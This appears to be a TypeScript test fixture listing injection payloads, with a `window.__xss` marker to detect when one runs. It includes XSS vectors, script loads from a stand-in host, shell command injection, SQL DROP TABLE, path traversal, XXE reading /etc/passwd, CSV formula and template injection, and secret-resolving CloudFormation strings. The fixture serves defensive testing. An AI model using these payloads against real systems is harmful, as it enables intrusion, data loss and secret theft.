/**
 * Texts that run or reach for something where they are taken for anything else than text: in a page, a picture, a diagram, a
 * template, a script. Each that runs in a page says so in `window.__xss`.
 */
export const payloads: readonly string[] = [
  // Elements
  '<script>window.__xss=1</script>',
  '<ScRiPt >window.__xss=1</sCrIpT >',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<script src=//x.example/x.js></script>',
  '<img src=x onerror=window.__xss=1>',
  '<img/src=x/onerror="window.__xss=1"//',
  '<svg onload=window.__xss=1>',
  '<svg><script href="data:,window.__xss=1" />',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<body onload=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<input autofocus onfocus=window.__xss=1>',
  '<video><source onerror=window.__xss=1>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.__xss=1</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<base href=//x.example/><form action=//x.example/><button>x</button>',
  // Out of an attribute, an element, a comment
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '" onmouseover="window.__xss=1" x="',
  "' autofocus onfocus='window.__xss=1",
  '` onmouseover=`window.__xss=1',
  '</script><script>window.__xss=1</script>',
  '</title></textarea></style><img src=x onerror=window.__xss=1>',
  '</text></g><script>window.__xss=1</script>',
  '</metadata><foreignObject><img src=x onerror=window.__xss=1 /></foreignObject>',
  '--><img src=x onerror=window.__xss=1><!--',
  ']]><script>window.__xss=1</script><![CDATA[',
  '<?xml-stylesheet href="javascript:window.__xss=1"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  // Addresses and Markdown
  'javascript:window.__xss=1',
  ' JaVaScRiPt://%0Awindow.__xss=1',
  'data:text/html,<script>parent.__xss=1</script>',
  '<a href="javascript:window.__xss=1">x</a>',
  '[x](javascript:window.__xss=1) ![x](//x.example/x.png)',
  '`</code><img src=x onerror=window.__xss=1>`',
  '"]; click api "javascript:window.__xss=1" %%{init: {"securityLevel": "loose"}}%%',
  // CSS
  '<style>*{background:url("javascript:window.__xss=1")}</style>',
  '"; background: url(//x.example/x.png); x: "',
  // Letters that are others elsewhere
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=1&#62;',
  '\\u003cimg src=x onerror=window.__xss=1\\u003e \\x3cscript\\x3e',
  '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
  '+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-',
  '\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e <\u017fcript>window.__xss=1</\u017fcript>',
  '\u202e>tpircs<\u202cwindow.__xss=1\u200b</script\ufeff>',
  // What templates of other languages resolve
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1} #{window.__xss=1} <%= window.__xss=1 %>',
  // CloudFormation
  '${AWS::AccountId}',
  '${!Literal}${Environment}${unclosed',
  '{"Fn::Sub": "${AWS::Region}"}',
  '!Sub "${AWS::StackName}"',
  '{{resolve:secretsmanager:prod/key:SecretString}}',
  '{{resolve:ssm:/prod/key}}<script>window.__xss=1</script>',
  // Shells, queries, tables, paths
  '$(touch pwned)`touch pwned`',
  '"; touch pwned; "',
  "'; touch pwned #",
  '-rf ~ && touch pwned | tee pwned > pwned',
  "' OR 1=1; DROP TABLE items; --",
  `=cmd|'/c calc'!A1`,
  '../../../../etc/passwd',
  // Lines, which only code and a body's schema have
  'x\r\nSet-Cookie: a=1\r\n\r\n<script>window.__xss=1</script>',
  'x\n```\n<img src=x onerror=window.__xss=1>\n---\nkey: !Ref Environment',
  'java\tscript:window.__xss=1',
]
